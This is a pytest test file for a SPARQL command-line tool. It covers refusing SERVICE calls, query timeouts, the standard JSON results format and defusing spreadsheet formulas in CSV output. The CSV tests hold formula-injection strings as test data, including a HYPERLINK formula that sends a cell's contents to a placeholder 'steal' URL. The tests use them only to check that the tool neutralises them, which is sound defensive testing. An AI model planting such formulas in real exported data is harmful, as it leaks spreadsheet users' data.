"""Hostile and careless SPARQL, and answers a spreadsheet or another SPARQL tool reads.

The cases (issue 15, items 15, 16, 17 and 22):

- **SERVICE** (16). A query that calls ``SERVICE`` is refused (exit 2, naming the file and the
  target) before any request leaves, unless ``--allow-service``: a plain call, one nested in a
  sub-query, an ``OPTIONAL``, a ``UNION``, a ``MINUS`` or a ``FILTER EXISTS``, ``SILENT``, a
  variable or a prefixed name as target, the keyword in lower case or spelt with a ``\\u``
  escape, in a query of SPARQL 1.2 that rdflib's parser cannot read, and one written in by an
  ``#include``d fragment. A local server that records requests
  receives none, from the sources or with ``--endpoint``. ``SERVICE`` in a comment, a string,
  an IRI, a prefixed name or a variable is no call: the query runs. The API refuses it too
  unless ``allow_service=True``; no catalogue query calls one. Allowed, a service that answers
  garbage, or in a form no SPARQL tool reads, is a clear error (exit 3), not a traceback.
- **Runaway queries** (17). A four-way cross join over the sources is stopped when
  ``--timeout`` passes (exit 3, saying how long it ran and how to give it longer); ``query`` is
  stopped alike; ``--help`` states the default; ``--timeout`` is taken without ``--endpoint``,
  and ``--retries`` still is not.
- **Standard results** (22). ``sparql --format json`` prints the SPARQL 1.1 Query Results JSON:
  IRIs, blank nodes and literals told apart, datatypes and languages kept, an unbound variable
  left out, ``ASK`` as ``boolean``, each answer checked against the format's rules. rdflib's
  and pyoxigraph's parsers of that format read it back to the terms that pyoxigraph's own
  writer gives. ``--format json-rows`` prints the flat objects, for both commands;
  ``query --format json`` stays the question's rows.
- **CSV** (15). A cell of text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is written with a single quote in front, from ``query`` and ``sparql`` alike; numbers
  (``-3``) and other text are written as they are; the merge report's CSV likewise.
- **The query file** (11, 14). A named pipe given as the query file is refused (exit 2), never
  waited on; a name too long for any file is "no such file", the name cut.
"""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from helpers import Cli, WriteStudy, guarded, serving
from rdflib.query import Result

from evidence_graph import load
from evidence_graph.cli import main
from evidence_graph.exceptions import StoreError
from evidence_graph.sparql import (
    QUERY_NAMES,
    Solutions,
    SparqlError,
    query_text,
    services,
    solve,
    to_store,
)

# -- a server that records what reaches it -------------------------------------------------------


@dataclass
class Recorder:
    """A local HTTP server that records every request and answers ``body`` as ``media``."""

    url: str
    media: str = "application/sparql-results+json"
    body: bytes = b'{"head": {"vars": ["s"]}, "results": {"bindings": [ {{{ garbage'
    requests: list[tuple[str, str]] = field(default_factory=list)


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    recorded = Recorder("")

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            recorded.requests.append((self.command, self.rfile.read(length).decode()))
            self.send_response(200)
            self.send_header("Content-Type", recorded.media)
            self.send_header("Content-Length", str(len(recorded.body)))
            self.end_headers()
            self.wfile.write(recorded.body)

        do_GET = do_POST = answer  # noqa: N815 - the names http.server calls

        def log_message(self, *_: Any) -> None:
            pass

    with serving(Handler) as url:
        recorded.url = f"{url}/sparql"
        yield recorded


def rq(tmp_path: Path, text: str, name: str = "query.rq") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- SERVICE (16) ---------------------------------------------------------------------------------

FAR = json.dumps(
    {"head": {"vars": ["o"]}, "results": {"bindings": [{"o": {"type": "literal", "value": "far"}}]}}
).encode()
"""A service's answer: one solution, ``?o`` bound to "far"."""

CALLS = {
    "plain": "SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "sub-query": "SELECT * WHERE {{ {{ SELECT ?s WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "optional": "SELECT * WHERE {{ ?a ?b ?c OPTIONAL {{ SERVICE <{url}> {{ ?a ?p ?o }} }} }}",
    "union": "SELECT * WHERE {{ {{ ?a ?b ?c }} UNION {{ SERVICE <{url}> {{ ?a ?p ?o }} }} }}",
    "minus": "SELECT * WHERE {{ ?a ?b ?c MINUS {{ SERVICE <{url}> {{ ?a ?p ?o }} }} }}",
    "exists": "ASK {{ ?a ?b ?c FILTER EXISTS {{ SERVICE <{url}> {{ ?a ?p ?o }} }} }}",
    "silent": "SELECT * WHERE {{ ?a ?b ?c SERVICE SILENT <{url}> {{ ?a ?p ?o }} }}",
    "lower case": "select * where {{ service <{url}> {{ ?s ?p ?o }} }}",
    "escaped": "SELECT * WHERE {{ \\u0053ERVICE <{url}> {{ ?s ?p ?o }} }}",
    "prefixed": "PREFIX far: <{url}#>\nSELECT * WHERE {{ SERVICE far:x {{ ?s ?p ?o }} }}",
    "variable": ("SELECT * WHERE {{ BIND(<{url}> AS ?where) SERVICE ?where {{ ?s ?p ?o }} }}"),
    "construct": "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    # SPARQL 1.2, which Oxigraph runs and rdflib's SPARQL 1.1 parser cannot read
    "triple term": (
        "SELECT * WHERE {{ BIND(<<( <urn:a> <urn:b> <urn:c> )>> AS ?t) "
        "SERVICE <{url}> {{ ?s ?p ?o }} }}"
    ),
    "version": 'VERSION "1.2"\nSELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}',
}

NOT_CALLS = {
    "comment": "# SERVICE <{url}> {{ ?s ?p ?o }}\nSELECT ?s WHERE {{ ?s ?p ?o }} LIMIT 1",
    "string": "SELECT ?s WHERE {{ ?s ?p ?o FILTER(?o != 'SERVICE <{url}> {{}}') }} LIMIT 1",
    "long string": 'SELECT ?x WHERE {{ BIND("""a\nSERVICE <{url}> {{}}""" AS ?x) }}',
    "iri": "SELECT ?s WHERE {{ ?s ?p ?o OPTIONAL {{ ?s <urn:SERVICE> ?x }} }} LIMIT 1",
    "prefixed name": (
        "PREFIX ex: <urn:x:>\n"
        "SELECT ?s WHERE {{ ?s ?p ?o OPTIONAL {{ ?s ex:SERVICE ?x }} }} LIMIT 1"
    ),
    "variable": "SELECT ?service WHERE {{ ?service ?p ?o }} LIMIT 1",
}


@pytest.mark.parametrize("case", list(CALLS))
def test_a_service_call_is_refused_before_any_request(
    tmp_path: Path, recorder: Recorder, case: str
) -> None:
    path = rq(tmp_path, CALLS[case].format(url=recorder.url))
    done = guarded("sparql", str(path))
    assert done.status == 2, done.output
    assert f"{path}: calls SERVICE " in done.stderr
    assert "give --allow-service to let it" in done.stderr
    assert "Traceback" not in done.output
    assert done.stdout == ""
    assert recorder.requests == []


def test_a_service_call_names_its_target(tmp_path: Path, recorder: Recorder) -> None:
    path = rq(tmp_path, CALLS["variable"].format(url=recorder.url))
    assert "calls SERVICE ?where," in guarded("sparql", str(path)).stderr
    path = rq(tmp_path, CALLS["prefixed"].format(url=recorder.url))
    assert "calls SERVICE far:x," in guarded("sparql", str(path)).stderr


def test_a_service_call_is_refused_before_the_endpoint_is_asked(
    tmp_path: Path, recorder: Recorder
) -> None:
    path = rq(tmp_path, CALLS["plain"].format(url="https://example.org/sparql"))
    done = guarded("sparql", str(path), "--endpoint", recorder.url)
    assert done.status == 2, done.output
    assert "calls SERVICE <https://example.org/sparql>" in done.stderr
    assert recorder.requests == []


@pytest.mark.parametrize("case", list(NOT_CALLS))
def test_the_word_service_outside_the_code_is_no_call(
    cli: Cli, tmp_path: Path, recorder: Recorder, case: str
) -> None:
    path = rq(tmp_path, NOT_CALLS[case].format(url=recorder.url))
    done = cli("sparql", str(path), "-f", "json-rows")
    assert done.returncode == 0, done.stderr
    assert len(json.loads(done.stdout)) == 1
    assert recorder.requests == []


def test_a_service_written_in_by_an_include_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    from evidence_graph.sparql import includes  # noqa: PLC0415 - its fragments, replaced

    fragments = dict(includes._fragment_files())
    fragments["far"] = "# a fragment that asks elsewhere\nSERVICE <https://example.org/q> { }\n"
    monkeypatch.setattr(includes, "_fragment_files", lambda: fragments)
    store = to_store(load("kverme2019"))
    query = "SELECT * WHERE {\n  ?s ?p ?o\n  #include far()\n}\n"
    with pytest.raises(SparqlError, match=r"calls SERVICE <https://example\.org/q>"):
        solve(store, query, source="far.rq")


def test_the_api_refuses_a_service_unless_allowed(recorder: Recorder) -> None:
    store = ox.Store()
    store.add(ox.Quad(ox.NamedNode("urn:a"), ox.NamedNode("urn:b"), ox.NamedNode("urn:c")))
    recorder.body = FAR
    query = CALLS["plain"].format(url=recorder.url)
    with pytest.raises(SparqlError, match="refused unless services are allowed"):
        solve(store, query)
    assert recorder.requests == []
    answer = solve(store, query, allow_service=True)
    assert [method for method, _ in recorder.requests] == ["POST"]
    assert isinstance(answer, Solutions)
    [row] = answer.rows
    assert dict(zip(answer.variables, row, strict=True)) == {
        "s": None,
        "p": None,
        "o": ox.Literal("far"),
    }


def test_no_catalogue_query_calls_a_service() -> None:
    assert [name for name in QUERY_NAMES if services(query_text(name))] == []


@pytest.mark.parametrize(
    ("media", "body"),
    [
        ("application/sparql-results+json", b'{"head": {"vars": ["s"]}, "results": {{{'),
        ("application/sparql-results+xml", b"<sparql><results><result><binding"),
        ("text/html", b"<html>an error page</html>"),
        ("application/sparql-results+json", b""),
        # well-formed JSON whose term pyoxigraph refuses while it reads the solutions
        (
            "application/sparql-results+json",
            (
                b'{"head": {"vars": ["s"]}, "results": {"bindings": '
                b'[{"s": {"type": "bogus", "value": "x"}}]}}'
            ),
        ),
    ],
)
def test_a_service_that_answers_garbage_is_a_store_error(
    tmp_path: Path, recorder: Recorder, media: str, body: bytes
) -> None:
    recorder.media, recorder.body = media, body
    path = rq(tmp_path, CALLS["plain"].format(url=recorder.url))
    done = guarded("sparql", str(path), "--allow-service")
    assert done.status == 3, done.output
    assert done.stderr.startswith(f"error: <{recorder.url}>: the SERVICE that {path} calls failed")
    assert done.stderr.count("\n") == 1, done.stderr  # the one line, and nothing after it
    assert [method for method, _ in recorder.requests] == ["POST"]


def test_a_service_that_answers_is_joined_when_allowed(tmp_path: Path, recorder: Recorder) -> None:
    recorder.body = FAR
    path = rq(tmp_path, CALLS["plain"].format(url=recorder.url))
    done = guarded("sparql", str(path), "--allow-service", "-f", "json-rows")
    assert done.status == 0, done.output
    assert json.loads(done.stdout) == [{"s": None, "p": None, "o": "far"}]
    [(method, sent)] = recorder.requests
    assert method == "POST"
    assert "?o" in sent


def test_a_service_error_from_the_api_is_a_store_error(recorder: Recorder) -> None:
    with pytest.raises(StoreError, match="failed or gave an answer that cannot be read"):
        solve(ox.Store(), CALLS["plain"].format(url=recorder.url), allow_service=True)


# -- runaway queries (17) ------------------------------------------------------------------------

CROSS_JOIN = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"


@pytest.mark.parametrize("output", ["table", "json", "csv"])
def test_a_runaway_query_is_stopped_at_the_timeout(tmp_path: Path, output: str) -> None:
    path = rq(tmp_path, CROSS_JOIN)
    done = guarded("sparql", str(path), "--timeout", "1", "-f", output)
    assert done.status == 3, done.output
    assert done.stderr == (
        f"error: {path}: the query passed 1 s and was stopped; give it longer with "
        "--timeout SECONDS (e.g. --timeout 4)\n"
    )
    assert done.stdout == ""


def test_a_runaway_query_of_rows_is_stopped_too(tmp_path: Path) -> None:
    path = rq(tmp_path, CROSS_JOIN.replace("(COUNT(*) AS ?n)", "*"))
    done = guarded("sparql", str(path), "--timeout", "1.5")
    assert done.status == 3, done.output
    assert "the query passed 1.5 s and was stopped" in done.stderr


def test_a_question_is_stopped_at_the_timeout(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    release = threading.Event()

    def forever(*_: object, **__: object) -> list[object]:
        release.wait()
        return []

    monkeypatch.setattr("evidence_graph.cli._answers.ask", forever)
    try:
        assert main(["query", "stats", "--timeout", "0.2"]) == 3
    finally:
        release.set()
    err = capsys.readouterr().err
    assert "error: stats: the query passed 0.2 s and was stopped" in err


def test_an_answer_in_time_is_printed(cli: Cli, tmp_path: Path) -> None:
    path = rq(tmp_path, "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }")
    done = cli("sparql", str(path), "--timeout", "60", "-f", "json-rows")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [{"n": 346}]
    done = cli("query", "stats", "--timeout", "60", "--sparql", "-f", "json")
    assert {"kind": "quote", "count": 4} in json.loads(done.stdout)


@pytest.mark.parametrize("command", ["query", "sparql"])
def test_the_help_states_the_default_timeout(
    capsys: pytest.CaptureFixture[str], command: str
) -> None:
    with pytest.raises(SystemExit):
        main([command, "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "before it is stopped (exit 3) (default: 60)" in text


def test_retries_still_need_an_endpoint(cli: Cli, tmp_path: Path) -> None:
    done = cli("sparql", str(rq(tmp_path, "ASK {}")), "--timeout", "5", "--retries", "1")
    assert done.returncode == 2
    assert "--retries is for a store: give --endpoint URL too" in done.stderr


# -- standard results (22) -----------------------------------------------------------------------

TERMS = """
SELECT ?iri ?label ?french ?number ?when ?blank ?nothing WHERE {
  BIND(<https://example.org/a> AS ?iri)
  BIND("Førde \\"quoted\\"" AS ?label)
  BIND("bonjour"@fr AS ?french)
  BIND(-12 AS ?number)
  BIND("2019-03-12"^^<http://www.w3.org/2001/XMLSchema#date> AS ?when)
  BIND(BNODE("b") AS ?blank)
}
"""


def _standard(store: ox.Store, query: str) -> bytes:
    """The answer as pyoxigraph's own writer of the format writes it."""
    answer = store.query(query)
    written = answer.serialize(format=ox.QueryResultsFormat.JSON)
    assert written is not None
    return written


def _rdflib_rows(text: str | bytes) -> list[dict[str, Any]]:
    result = Result.parse(io.BytesIO(text if isinstance(text, bytes) else text.encode()), "json")
    return [{str(name): value for name, value in row.asdict().items()} for row in result]


def check_results(document: Any) -> None:
    """Assert that ``document`` is what the SPARQL 1.1 Query Results JSON Format allows."""
    assert isinstance(document, dict)
    if "boolean" in document:
        assert set(document) == {"head", "boolean"}
        assert isinstance(document["boolean"], bool)
        assert isinstance(document["head"], dict)
        assert "vars" not in document["head"]
        return
    assert set(document) == {"head", "results"}
    variables = document["head"]["vars"]
    assert all(isinstance(name, str) and not name.startswith("?") for name in variables)
    assert len(set(variables)) == len(variables)
    assert set(document["results"]) == {"bindings"}
    for binding in document["results"]["bindings"]:
        assert set(binding) <= set(variables)
        for term in binding.values():
            check_term(term)


def check_term(term: Any) -> None:
    assert isinstance(term["value"], str)
    if term["type"] in {"uri", "bnode"}:
        assert set(term) == {"type", "value"}
    else:
        assert term["type"] == "literal"
        assert set(term) in (
            {"type", "value"},
            {"type", "value", "datatype"},
            {"type", "value", "xml:lang"},
        )


def test_json_is_the_standard_query_results_format(cli: Cli, tmp_path: Path) -> None:
    done = cli("sparql", str(rq(tmp_path, TERMS)), "-f", "json")
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    check_results(document)
    assert document["head"] == {
        "vars": ["iri", "label", "french", "number", "when", "blank", "nothing"]
    }
    [binding] = document["results"]["bindings"]
    assert binding["iri"] == {"type": "uri", "value": "https://example.org/a"}
    assert binding["label"] == {"type": "literal", "value": 'Førde "quoted"'}
    assert binding["french"] == {"type": "literal", "value": "bonjour", "xml:lang": "fr"}
    assert binding["number"] == {
        "type": "literal",
        "value": "-12",
        "datatype": "http://www.w3.org/2001/XMLSchema#integer",
    }
    assert binding["when"]["datatype"] == "http://www.w3.org/2001/XMLSchema#date"
    assert binding["blank"]["type"] == "bnode"
    assert "nothing" not in binding  # unbound: left out, as the format says


def test_two_readers_of_the_format_read_back_what_pyoxigraph_writes(
    cli: Cli, tmp_path: Path
) -> None:
    query = "SELECT ?s ?label ?o WHERE { ?s ?p ?o OPTIONAL { ?s skos:prefLabel ?label } }"
    done = cli("sparql", str(rq(tmp_path, query)), "-f", "json")
    assert done.returncode == 0, done.stderr
    check_results(json.loads(done.stdout))
    ours = done.stdout.encode()
    store = to_store(load("kverme2019"))
    theirs = _standard(store, "PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n" + query)
    read = ox.parse_query_results(ours, ox.QueryResultsFormat.JSON)
    expected = ox.parse_query_results(theirs, ox.QueryResultsFormat.JSON)
    assert isinstance(read, ox.QuerySolutions)
    assert isinstance(expected, ox.QuerySolutions)
    assert [str(v) for v in read.variables] == [str(v) for v in expected.variables]
    rows = sorted(tuple(str(solution[v]) for v in ("s", "label", "o")) for solution in read)
    assert rows == sorted(
        tuple(str(solution[v]) for v in ("s", "label", "o")) for solution in expected
    )
    assert len(rows) == 346
    by_rdflib = _rdflib_rows(ours)
    assert sorted(map(sorted, (r.items() for r in by_rdflib))) == sorted(
        map(sorted, (r.items() for r in _rdflib_rows(theirs)))
    )


def test_languages_and_blank_nodes_survive_a_second_reader(cli: Cli, tmp_path: Path) -> None:
    done = cli("sparql", str(rq(tmp_path, TERMS)), "-f", "json")
    [row] = _rdflib_rows(done.stdout)
    assert row["french"].language == "fr"
    assert str(row["number"].datatype).endswith("#integer")
    assert type(row["blank"]).__name__ == "BNode"
    assert "nothing" not in row
    [solution] = ox.parse_query_results(done.stdout.encode(), ox.QueryResultsFormat.JSON)
    assert solution["french"] == ox.Literal("bonjour", language="fr")
    assert solution["iri"] == ox.NamedNode("https://example.org/a")


@pytest.mark.parametrize(("query", "expected"), [("ASK { ?s ?p ?o }", True), ("ASK { }", True)])
def test_ask_as_json_is_a_boolean(cli: Cli, tmp_path: Path, query: str, expected: bool) -> None:
    done = cli("sparql", str(rq(tmp_path, query)), "-f", "json")
    check_results(json.loads(done.stdout))
    assert json.loads(done.stdout) == {"head": {}, "boolean": expected}
    assert bool(ox.parse_query_results(done.stdout.encode(), ox.QueryResultsFormat.JSON))
    assert Result.parse(io.BytesIO(done.stdout.encode()), "json").askAnswer is expected


def test_ask_false_as_json(cli: Cli, tmp_path: Path) -> None:
    done = cli("sparql", str(rq(tmp_path, 'ASK { ?s ?p "no such thing" }')), "-f", "json")
    assert json.loads(done.stdout) == {"head": {}, "boolean": False}
    assert ok_text(cli("sparql", str(rq(tmp_path, "ASK {}")), "-f", "json-rows")) == "true\n"


def test_json_rows_stay_flat_for_both_commands(cli: Cli, tmp_path: Path) -> None:
    rows = json.loads(ok_text(cli("sparql", str(rq(tmp_path, TERMS)), "-f", "json-rows")))
    assert rows[0]["number"] == -12
    assert rows[0]["french"] == "bonjour"
    assert rows[0]["nothing"] is None
    asked = ("query", "stats", "kverme2019")
    flat = json.loads(ok_text(cli(*asked, "-f", "json-rows")))
    assert flat == json.loads(ok_text(cli(*asked, "-f", "json")))  # a question's rows
    assert {"kind": "quote", "count": 4} in flat


def test_an_empty_answer_as_json(cli: Cli, tmp_path: Path) -> None:
    path = rq(tmp_path, 'SELECT ?s WHERE { ?s ?p "no such thing" }')
    document = json.loads(ok_text(cli("sparql", str(path), "-f", "json")))
    check_results(document)
    assert document == {"head": {"vars": ["s"]}, "results": {"bindings": []}}


def ok_text(done: Any) -> str:
    assert done.returncode == 0, done.stderr
    return str(done.stdout)


# -- CSV (15) ------------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tindented", "\rreturned"]


def test_csv_from_sparql_defuses_formulas(cli: Cli, tmp_path: Path) -> None:
    binds = " ".join(
        f"BIND({json.dumps(text)} AS ?c{number})" for number, text in enumerate(FORMULAS)
    )
    path = rq(tmp_path, f"SELECT * WHERE {{ {binds} BIND(-3 AS ?n) BIND('a - b' AS ?t) }}")
    [header, row] = list(csv.reader(io.StringIO(ok_text(cli("sparql", str(path), "-f", "csv")))))
    cells = dict(zip(header, row, strict=True))
    assert [cells[f"c{number}"] for number in range(len(FORMULAS))] == [
        f"'{text}" for text in FORMULAS
    ]
    assert cells["n"] == "-3"  # a number is no formula
    assert cells["t"] == "a - b"


def test_csv_from_a_question_defuses_formulas(
    cli: Cli, kverme: dict[str, Any], write_study: WriteStudy
) -> None:
    kverme["quotes"][0]["text"] = '=HYPERLINK("https://example.org/steal?"&A1, "click")'
    source = write_study(kverme)
    out = ok_text(cli("query", "search-quotes", str(source), "-p", "text=hyperlink", "-f", "csv"))
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["text"] == '\'=HYPERLINK("https://example.org/steal?"&A1, "click")'
    table = ok_text(cli("query", "search-quotes", str(source), "-p", "text=hyperlink"))
    assert "'=HYPERLINK" not in table  # only CSV is for spreadsheets


def test_csv_of_the_merge_report_defuses_formulas(cli: Cli, write_study: WriteStudy) -> None:
    bibtex = write_study(
        '@article{x2020,\n  title = {=HYPERLINK("https://example.org") and more},\n'
        "  doi = {10.1234/abc},\n  journal = {@Journal of Tests},\n  year = {2020},\n}\n",
        "a.bib",
    )
    ris = write_study(
        'TY  - JOUR\nTI  - =HYPERLINK("https://example.org")\nT2  - @J Tests\n'
        "DO  - 10.1234/abc\nPY  - 2020\nER  - \n",
        "b.ris",
    )
    out = ok_text(cli("merge-report", str(bibtex), str(ris), "-f", "csv"))
    rows = {row["field"]: row for row in csv.DictReader(io.StringIO(out))}
    assert (rows["title"]["kept"], rows["title"]["dropped"]) == (
        '\'=HYPERLINK("https://example.org") and more',
        '\'=HYPERLINK("https://example.org")',
    )
    assert (rows["container_title"]["kept"], rows["container_title"]["dropped"]) == (
        "'@Journal of Tests",
        "'@J Tests",
    )
    assert rows["title"]["kept_line"] == "2"  # a number, as it is


# -- the query file ------------------------------------------------------------------------------


def test_a_query_file_that_is_a_named_pipe_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "query.rq"
    os.mkfifo(fifo)
    done = guarded("sparql", str(fifo))  # waiting on the pipe would be a hang
    assert done.status == 2, done.output
    assert done.stderr == f"error: {fifo}: is a named pipe, not a query file\n"


def test_a_query_file_named_too_long_is_no_such_file_and_cut(cli: Cli) -> None:
    done = cli("sparql", "q" * 5_000 + ".rq")
    assert done.returncode == 2
    assert done.stderr == f"error: {'q' * 200}… (4,803 more characters): no such file\n"
